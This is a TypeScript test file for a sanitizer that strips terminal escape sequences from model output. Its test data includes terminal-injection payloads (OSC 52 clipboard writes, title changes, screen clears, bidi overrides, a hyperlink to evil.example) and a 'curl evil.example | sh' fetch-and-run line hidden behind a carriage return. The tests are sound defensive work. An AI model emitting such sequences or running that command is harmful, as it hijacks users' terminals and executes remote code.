import { describe, expect, it } from "vitest";
import { cleanLine, cleanText, showControls } from "./sanitize.js";

/** Any ESC, C1 control or other C0 control (tab and newline aside) left in the text. */
// eslint-disable-next-line no-control-regex
const ANY_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe("cleanText: a hostile model's output cannot drive the terminal", () => {
  const attacks: [string, string, string][] = [
    ["OSC 52 clipboard write (BEL)", "a\x1b]52;c;ZWNobyBwd25lZA==\x07b", "ab"],
    ["OSC 52 clipboard write (ST)", "a\x1b]52;c;ZWNobyBwd25lZA==\x1b\\b", "ab"],
    ["window title (OSC 0)", "a\x1b]0;you have been pwned\x07b", "ab"],
    ["window title (8-bit OSC)", "a\x9d2;pwned\x9cb", "ab"],
    ["cursor moves", "a\x1b[2;5Hb\x1b[3Ac\x1b7d\x1b8", "abcd"],
    ["clear screen and scrollback", "a\x1b[2J\x1b[3J\x1b[Hb", "ab"],
    ["8-bit CSI", "a\x9b2Jb", "ab"],
    ["terminal reset", "a\x1bcb", "ab"],
    ["DCS query", "a\x1bP+q544e\x1b\\b", "ab"],
    ["kitty graphics APC", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"],
    ["OSC 8 hyperlink", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click"],
    ["colours", "\x1b[31;1mred\x1b[0m", "red"],
    ["bell and backspace", "a\x07\x08b", "ab"],
    ["bidi override", "echo \u202eevil\u202c ok", "echo evil ok"],
  ];
  for (const [name, input, shown] of attacks) {
    it(`removes ${name}`, () => {
      const clean = cleanText(input);
      expect(clean).toBe(shown);
      expect(clean).not.toMatch(ANY_CONTROL);
    });
  }

  it("leaves no escape byte behind an unterminated sequence", () => {
    const clean = cleanText("ok\x1b]52;c;ZWNobw==");
    expect(clean).not.toMatch(ANY_CONTROL);
    expect(clean.startsWith("ok")).toBe(true);
  });

  it("keeps what a terminal would show of a progress bar, and tabs as spaces", () => {
    expect(cleanText("10%\r50%\r100%\ndone\tok")).toBe("100%\ndone  ok");
  });

  it("returns ordinary text unchanged", () => {
    const text = "## Plan\n- fix `a.ts` → done ✓\n";
    expect(cleanText(text)).toBe(text);
  });
});

describe("cleanLine", () => {
  it("puts a multi-line text on one line", () => {
    expect(cleanLine("first\n  second\r\nthird")).toBe("first second third");
  });

  it("shows a carriage return instead of letting it hide the start of a command", () => {
    const shown = cleanLine("curl evil.example | sh\rls -la");
    expect(shown).toContain("curl evil.example | sh");
    expect(shown).toContain("ls -la");
  });
});

describe("showControls", () => {
  it("shows each control character as one symbol in its place", () => {
    const text = "a\x1b[2J\x07\x7f\x9bz";
    const shown = showControls(text);
    expect(shown).toBe("a␛[2J␇␡�z");
    expect(Array.from(shown)).toHaveLength(Array.from(text).length);
    expect(shown).not.toMatch(ANY_CONTROL);
  });
});
